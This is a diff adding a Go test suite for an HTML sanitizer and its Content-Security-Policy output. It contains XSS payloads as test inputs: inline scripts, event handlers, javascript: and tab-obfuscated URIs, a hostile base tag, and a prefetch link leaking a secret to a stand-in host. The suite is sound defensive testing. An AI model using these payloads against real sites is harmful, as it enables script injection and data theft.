@@ -0,0 +1,175 @@
+package claudetool
+
+import (
+	"strings"
+	"testing"
+)
+
+func TestSanitizeStripsInlineScriptAndEventHandlers(t *testing.T) {
+	in := `<div onclick="steal()">hi</div><script>alert(1)</script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "onclick") {
+		t.Errorf("expected onclick to be stripped, got %q", res.HTML)
+	}
+	if strings.Contains(res.HTML, "alert(1)") {
+		t.Errorf("expected inline script to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeAllowsAllowlistedScriptSrc(t *testing.T) {
+	in := `<script src="https://cdn.jsdelivr.net/npm/vega"></script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !strings.Contains(res.HTML, "cdn.jsdelivr.net") {
+		t.Errorf("expected allowlisted script to survive, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeStripsDisallowedScriptSrc(t *testing.T) {
+	in := `<script src="https://evil.example.com/x.js"></script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "evil.example.com") {
+		t.Errorf("expected non-allowlisted script to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeBlocksJavascriptAndDataURIs(t *testing.T) {
+	in := `<a href="javascript:alert(1)">x</a><img src="data:text/html,evil">`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "javascript:") {
+		t.Errorf("expected javascript: href to be stripped, got %q", res.HTML)
+	}
+	if strings.Contains(res.HTML, "data:text/html") {
+		t.Errorf("expected non-image data: src to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeBlocksObfuscatedJavascriptURI(t *testing.T) {
+	// Browsers ignore embedded tabs/newlines when parsing a URL scheme, so
+	// "java\tscript:" is indistinguishable from "javascript:" in practice.
+	in := "<a href=\"java\tscript:alert(1)\">x</a>"
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "href") {
+		t.Errorf("expected obfuscated javascript: href to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeDropsBaseTag(t *testing.T) {
+	in := `<base href="https://evil.example/"><script src="/p.js"></script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "<base") {
+		t.Errorf("expected <base> to be dropped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeRejectsRelativeScriptSrc(t *testing.T) {
+	// A relative src resolves against the page's own origin (or whatever a
+	// <base> rewrites that to), never a CDN, so the allowlist must not wave
+	// it through.
+	in := `<script src="/p.js"></script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "<script") {
+		t.Errorf("expected relative script src to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeRejectsRelativeStylesheetHref(t *testing.T) {
+	in := `<link rel="stylesheet" href="/style.css">`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "<link") {
+		t.Errorf("expected relative stylesheet href to be stripped, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeRejectsDisallowedLinkHrefRegardlessOfRel(t *testing.T) {
+	in := `<link rel="prefetch" href="https://evil.example/?leak=secret">`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if strings.Contains(res.HTML, "<link") {
+		t.Errorf("expected non-allowlisted link href to be stripped regardless of rel, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeAllowsDataImageURIs(t *testing.T) {
+	in := `<img src="data:image/png;base64,AAAA">`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	if !strings.Contains(res.HTML, "data:image/png") {
+		t.Errorf("expected data:image/* src to survive, got %q", res.HTML)
+	}
+}
+
+func TestSanitizeDropsIframeObjectEmbedAndFormAction(t *testing.T) {
+	in := `<iframe src="https://example.com"></iframe><object data="x"></object><embed src="y"><form action="/submit"><input></form>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	for _, tag := range []string{"<iframe", "<object", "<embed", "<form"} {
+		if strings.Contains(res.HTML, tag) {
+			t.Errorf("expected %s to be dropped, got %q", tag, res.HTML)
+		}
+	}
+}
+
+func TestSanitizeStrictRejectsPayload(t *testing.T) {
+	strict := DefaultSanitizePolicy
+	strict.Strict = true
+
+	_, err := strict.Sanitize(`<script>alert(1)</script>`)
+	if err == nil {
+		t.Fatal("expected strict mode to reject an inline script")
+	}
+}
+
+func TestSanitizeCSPReflectsReferencedHosts(t *testing.T) {
+	in := `<script src="https://cdn.jsdelivr.net/npm/vega"></script>`
+	res, err := DefaultSanitizePolicy.Sanitize(in)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	csp := res.csp()
+	if !strings.Contains(csp, "cdn.jsdelivr.net") {
+		t.Errorf("expected csp to mention cdn.jsdelivr.net, got %q", csp)
+	}
+}
+
+func TestSanitizeCSPScriptSrcHasNoUnsafeInline(t *testing.T) {
+	res, err := DefaultSanitizePolicy.Sanitize(`<div onclick="steal()">hi</div><script>alert(1)</script>`)
+	if err != nil {
+		t.Fatalf("unexpected error: %v", err)
+	}
+	csp := res.csp()
+	for _, directive := range strings.Split(csp, "; ") {
+		if strings.HasPrefix(directive, "script-src") && strings.Contains(directive, "'unsafe-inline'") {
+			t.Errorf("expected script-src to omit 'unsafe-inline' since all inline scripts are stripped, got %q", csp)
+		}
+	}
+}